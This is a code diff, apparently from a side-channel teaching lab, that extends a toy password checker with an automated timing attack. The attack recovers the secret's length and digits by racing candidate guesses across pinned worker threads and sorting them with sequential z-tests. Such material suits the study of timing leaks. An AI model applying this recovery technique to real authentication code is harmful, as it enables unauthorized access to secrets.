@@ -2,14 +2,75 @@
 #include <stdlib.h>
 #include <string.h>
 #include <stdint.h>
+#include <pthread.h>
+#include <sched.h>
 #include <cacheutils.h>
+#include <stats.h>
+#include <debug.h>
 #include "secret.h"
 
 #define NUM_SAMPLES     100000
 #define DELAY           1
 
-uint64_t diff[NUM_SAMPLES];
-int user_len, secret_len;
+/*
+ * Automated recovery (-a): the secret length and then every byte are found
+ * by racing the candidates against each other. Candidates are sampled in
+ * rounds of AUTO_BATCH and dropped as soon as a sequential z-test (Welch,
+ * with a generous AUTO_Z to make up for the repeated looks) shows that their
+ * mean time is below the currently slowest one. Samples above AUTO_CLIP
+ * times the running median are clipped, so that an interrupt cannot make a
+ * wrong candidate look slow.
+ */
+#define AUTO_MAX_LEN        16
+#define AUTO_CHARSET        "0123456789"
+#define AUTO_MAX_CAND       AUTO_MAX_LEN
+#define AUTO_BATCH          16
+#define AUTO_MIN_SAMPLES    64
+#define AUTO_Z              6.0
+#define AUTO_CLIP           4.0
+
+/*
+ * Parallel recovery (-a -j N): N workers, by default one per physical core,
+ * each pinned to its core with its own calibrated timer. Every round, the
+ * live candidates are split among the workers (rotating the assignment, so
+ * no candidate sticks to one core) and the workers add their samples to
+ * per-candidate sums with atomic adds; the race logic above only reads the
+ * sums after the round. As cores may run at different frequencies while the
+ * TSC ticks at a constant rate, each worker scales its samples by the ratio
+ * of worker 0's to its own median time for a fixed reference workload.
+ */
+#define MAX_WORKERS         64
+#define AUTO_CAL_SAMPLES    10000
+
+/* per thread, as parallel workers time different guesses */
+__thread int user_len;
+int secret_len;
+cache_timer_t timer;
+
+typedef struct {
+    uint64_t n;
+    uint64_t sum;
+    uint64_t sumsq;
+} __attribute__((aligned(64))) cand_stats_t;
+
+typedef struct {
+    int cpu;
+    cache_timer_t *timer;       /* &own, or the global timer if sequential */
+    cache_timer_t own;
+    double ref;                 /* median time of the reference workload */
+    double scale;               /* workers[0].ref / ref */
+    stats_quantile_t med;       /* of all scaled samples, for clipping */
+    pthread_t thread;
+} __attribute__((aligned(64))) worker_t;
+
+worker_t workers[MAX_WORKERS];
+int nworkers = 1, timer_kind = TIMER_LFENCE;
+
+/* the current round, published by race() between the two barriers */
+char (*round_guess)[AUTO_MAX_LEN+1];
+int round_live[AUTO_MAX_CAND], round_n, round_id, round_stop, calib_turn;
+cand_stats_t round_stats[AUTO_MAX_CAND];
+pthread_barrier_t round_start, round_end;
 
 char *read_from_user(void)
 {
@@ -64,15 +125,327 @@ int check_pwd(char *user)
     return 1;
 }
 
-int compare(const void * a, const void * b) {
-   return ( *(uint64_t*)a - *(uint64_t*)b );
+uint64_t time_guess(cache_timer_t *t, char *guess)
+{
+    uint64_t tsc1, tsc2;
+
+    user_len = strlen(guess);
+    tsc1 = timer_begin(t);
+    check_pwd(guess);
+    tsc2 = timer_end(t);
+    return timer_elapsed(t, tsc1, tsc2);
+}
+
+/* Reference workload for comparing core speeds: a few delay() calls. */
+uint64_t time_reference(cache_timer_t *t)
+{
+    uint64_t tsc1, tsc2;
+    int i;
+
+    tsc1 = timer_begin(t);
+    for (i=0; i < 4; i++)
+        delay();
+    tsc2 = timer_end(t);
+    return timer_elapsed(t, tsc1, tsc2);
+}
+
+/* Take this worker's share of the current round. */
+void worker_round(worker_t *w, int id)
+{
+    cand_stats_t *cs;
+    uint64_t x, clip, n, sum, sumsq;
+    int c, j;
+
+    for (c=0; c < round_n; c++)
+    {
+        if (!round_live[c] || (c + round_id) % nworkers != id)
+            continue;
+
+        n = sum = sumsq = 0;
+        for (j=0; j < AUTO_BATCH; j++)
+        {
+            x = time_guess(w->timer, round_guess[c]) * w->scale;
+            stats_quantile_add(&w->med, x);
+            clip = AUTO_CLIP * stats_quantile_get(&w->med);
+            x = (x > clip) ? clip : x;
+            n++;
+            sum += x;
+            sumsq += x*x;
+        }
+
+        cs = &round_stats[c];
+        __atomic_add_fetch(&cs->n, n, __ATOMIC_RELAXED);
+        __atomic_add_fetch(&cs->sum, sum, __ATOMIC_RELAXED);
+        __atomic_add_fetch(&cs->sumsq, sumsq, __ATOMIC_RELAXED);
+    }
+}
+
+/* Pin to w->cpu, calibrate the timer there, and time the reference. */
+void worker_init(worker_t *w)
+{
+    stats_quantile_t med;
+    cpu_set_t set;
+    int j;
+
+    if (nworkers > 1)
+    {
+        CPU_ZERO(&set);
+        CPU_SET(w->cpu, &set);
+        ASSERT(!sched_setaffinity(0, sizeof(set), &set));
+    }
+
+    /* one core at a time, so that the others do not disturb the reference */
+    while (__atomic_load_n(&calib_turn, __ATOMIC_ACQUIRE) != w - workers)
+        sched_yield();
+
+    w->timer = &w->own;
+    ASSERT(!timer_init(w->timer, timer_kind));
+    stats_quantile_init(&med, 0.5);
+    for (j=0; j < AUTO_CAL_SAMPLES; j++)
+        stats_quantile_add(&med, time_reference(w->timer));
+    w->ref = stats_quantile_get(&med);
+    w->scale = 1.0;
+    stats_quantile_init(&w->med, 0.5);
+    __atomic_add_fetch(&calib_turn, 1, __ATOMIC_RELEASE);
+}
+
+void *worker_main(void *arg)
+{
+    worker_t *w = arg;
+    int id = w - workers;
+
+    worker_init(w);
+    pthread_barrier_wait(&round_end);
+
+    while (1)
+    {
+        pthread_barrier_wait(&round_start);
+        if (round_stop)
+            break;
+        worker_round(w, id);
+        pthread_barrier_wait(&round_end);
+    }
+
+    timer_destroy(&w->own);
+    return NULL;
+}
+
+void workers_start(int n)
+{
+    int cpus[MAX_WORKERS], i;
+
+    nworkers = physical_cores(cpus, MAX_WORKERS);
+    if (n > 0 && n < nworkers)
+        nworkers = n;
+
+    ASSERT(!pthread_barrier_init(&round_start, NULL, nworkers+1));
+    ASSERT(!pthread_barrier_init(&round_end, NULL, nworkers+1));
+    for (i=0; i < nworkers; i++)
+    {
+        workers[i].cpu = cpus[i];
+        ASSERT(!pthread_create(&workers[i].thread, NULL, worker_main,
+                               &workers[i]));
+    }
+    pthread_barrier_wait(&round_end);
+
+    for (i=0; i < nworkers; i++)
+    {
+        workers[i].scale = workers[0].ref / workers[i].ref;
+        printf("worker %d on cpu %d: overhead %lu, reference %.0f, scale %.3f\n",
+               i, workers[i].cpu, workers[i].timer->overhead, workers[i].ref,
+               workers[i].scale);
+    }
+}
+
+void workers_stop(void)
+{
+    int i;
+
+    round_stop = 1;
+    pthread_barrier_wait(&round_start);
+    for (i=0; i < nworkers; i++)
+        pthread_join(workers[i].thread, NULL);
+}
+
+/* Sample all live candidates once, in parallel if there are workers. */
+void sample_round(char guess[][AUTO_MAX_LEN+1], int *live, int n)
+{
+    round_guess = guess;
+    round_n = n;
+    memcpy(round_live, live, n * sizeof(int));
+
+    if (nworkers == 1 && !workers[0].thread)
+        worker_round(&workers[0], 0);
+    else
+    {
+        pthread_barrier_wait(&round_start);
+        pthread_barrier_wait(&round_end);
+    }
+    round_id++;
+}
+
+double cand_mean(cand_stats_t *cs)
+{
+    return (double) cs->sum / cs->n;
+}
+
+double cand_variance(cand_stats_t *cs)
+{
+    double mean = cand_mean(cs);
+
+    return (cs->n > 1) ?
+        ((double) cs->sumsq - cs->n * mean * mean) / (cs->n - 1) : 0.0;
+}
+
+/*
+ * Returns the index of the candidate with the slowest check_pwd; *samples is
+ * increased by the number of measurements taken.
+ */
+int race(char guess[][AUTO_MAX_LEN+1], int n, uint64_t *samples)
+{
+    cand_stats_t *m = round_stats;
+    int live[AUTO_MAX_CAND], nlive = n, best = 0, c;
+    double diff;
+
+    memset(round_stats, 0, sizeof(round_stats));
+    for (c=0; c < n; c++)
+        live[c] = 1;
+
+    while (nlive > 1 && m[best].n < NUM_SAMPLES)
+    {
+        sample_round(guess, live, n);
+        *samples += (uint64_t) nlive * AUTO_BATCH;
+
+        for (c=0; c < n; c++)
+            if (live[c] && cand_mean(&m[c]) > cand_mean(&m[best]))
+                best = c;
+        if (m[best].n < AUTO_MIN_SAMPLES)
+            continue;
+
+        /* drop c once mean(best) - mean(c) > AUTO_Z standard errors */
+        for (c=0; c < n; c++)
+        {
+            diff = cand_mean(&m[best]) - cand_mean(&m[c]);
+            if (c != best && live[c] && diff > 0 &&
+                diff*diff > AUTO_Z*AUTO_Z * (cand_variance(&m[best]) +
+                                             cand_variance(&m[c])) / m[c].n)
+            {
+                live[c] = 0;
+                nlive--;
+            }
+        }
+    }
+
+    return best;
+}
+
+int recover(int jobs)
+{
+    char guess[AUTO_MAX_CAND][AUTO_MAX_LEN+1], pwd[AUTO_MAX_LEN+1];
+    int len, i, c, n = strlen(AUTO_CHARSET);
+    uint64_t samples = 0, fixed = 0, s, tsc1, tsc2;
+
+    if (jobs)
+        workers_start(jobs);
+    else
+    {
+        /* sequential: the main thread is the only worker; never copy the
+           timer, the 'thread' timer's counter lives in the global one */
+        workers[0].timer = &timer;
+        workers[0].scale = 1.0;
+        stats_quantile_init(&workers[0].med, 0.5);
+    }
+    tsc1 = rdtsc_begin();
+
+    /* the correct length passes the length check and takes a delay() */
+    for (c=0; c < AUTO_MAX_LEN; c++)
+    {
+        memset(guess[c], '1', c+1);
+        guess[c][c+1] = '\0';
+    }
+    len = race(guess, AUTO_MAX_LEN, &samples) + 1;
+    fixed += (uint64_t) AUTO_MAX_LEN * NUM_SAMPLES;
+    printf("secret_len = %d (%lu samples)\n", len, samples);
+
+    /* every further correct byte takes one more delay() */
+    memset(pwd, AUTO_CHARSET[0], len);
+    pwd[len] = '\0';
+    for (i=0; i < len; i++)
+    {
+        for (c=0; c < n; c++)
+        {
+            strcpy(guess[c], pwd);
+            guess[c][i] = AUTO_CHARSET[c];
+        }
+        s = samples;
+        pwd[i] = AUTO_CHARSET[race(guess, n, &samples)];
+        fixed += (uint64_t) n * NUM_SAMPLES;
+        printf("pwd[%d] = '%c' (%lu samples)\n", i, pwd[i], samples - s);
+    }
+    tsc2 = rdtsc_end();
+
+    if (jobs)
+        workers_stop();
+
+    user_len = len;
+    printf("recovered '%s' (%s) with %lu samples; fixed sampling: %lu\n",
+           pwd, check_pwd(pwd) ? "ACCESS ALLOWED" : "ACCESS DENIED", samples,
+           fixed);
+    printf("%d worker(s): %.1f Mcycles per recovered byte\n", nworkers,
+           (tsc2 - tsc1) / 1e6 / len);
+    return 0;
 }
 
-int main()
+int main(int argc, char **argv)
 {
     char *pwd;
-    int j, allowed = 0;
-    uint64_t tsc1, tsc2, med;
+    int j, kind = TIMER_LFENCE, allowed = 0, automatic = 0, jobs = 0;
+    uint64_t tsc1, tsc2;
+    stats_quantile_t med;
+
+    /* usage: ./passwd [-a [-j workers]] [fenced|rdtscp|lfence|thread] */
+    if (argc > 1 && !strcmp(argv[1], "-a"))
+    {
+        automatic = 1;
+        argc--;
+        argv++;
+    }
+    if (automatic && argc > 2 && !strcmp(argv[1], "-j"))
+    {
+        /* 0 means one worker per physical core */
+        jobs = atoi(argv[2]);
+        jobs = jobs ? jobs : MAX_WORKERS;
+        argc -= 2;
+        argv += 2;
+    }
+    if (argc > 1 && (kind = timer_parse(argv[1])) < 0)
+    {
+        printf("unknown timer '%s'\n", argv[1]);
+        return 1;
+    }
+    if (timer_init(&timer, kind))
+    {
+        printf("timer '%s' not available; falling back to 'lfence'\n",
+               timer_names[kind]);
+        timer_init(&timer, kind = TIMER_LFENCE);
+    }
+    printf("timer '%s' on cpu %d, overhead %lu ticks (subtracted)\n",
+           timer_names[kind], timer.cpu, timer.overhead);
+
+    secret_len = strlen(SECRET_PWD);
+    if (automatic)
+    {
+        /* the workers need a timestamp instruction of their own */
+        if (jobs && kind == TIMER_THREAD)
+        {
+            printf("timer 'thread' not supported with -j; using 'lfence'\n");
+            kind = TIMER_LFENCE;
+        }
+        timer_kind = kind;
+        recover(jobs);
+        timer_destroy(&timer);
+        return 0;
+    }
 
     while ((pwd = read_from_user()) && strcmp(pwd, "q"))
     {
@@ -80,13 +453,15 @@ int main()
     user_len = strlen(pwd);
     secret_len = strlen(SECRET_PWD);
 
-    /* collect execution timing samples */
+    /* collect execution timing samples; keep a running median (avg may be
+       affected by outliers) */
+    stats_quantile_init(&med, 0.5);
     for (j=0; j < NUM_SAMPLES; j++)
     {
-        tsc1 = rdtsc_begin();
+        tsc1 = timer_begin(&timer);
         allowed = check_pwd(pwd);
-        tsc2 = rdtsc_end();
-        diff[j] = tsc2 - tsc1;
+        tsc2 = timer_end(&timer);
+        stats_quantile_add(&med, timer_elapsed(&timer, tsc1, tsc2));
     }
 
     if (allowed)
@@ -117,13 +492,14 @@ int main()
         printf("       \\__U_/      \n\n");
     }
     
-    /* compute median over all samples (avg may be affected by outliers) */
-    qsort(diff, NUM_SAMPLES, sizeof(uint64_t), compare);
-    med = diff[NUM_SAMPLES/2];
-    printf("time (med clock cycles): %lu\n", med);
+    printf("time (med %s): %.0f\n",
+           (kind == TIMER_THREAD) ? "counter ticks" : "clock cycles",
+           stats_quantile_get(&med));
 
     free(pwd);
 
     }
+
+    timer_destroy(&timer);
     return 0;
 }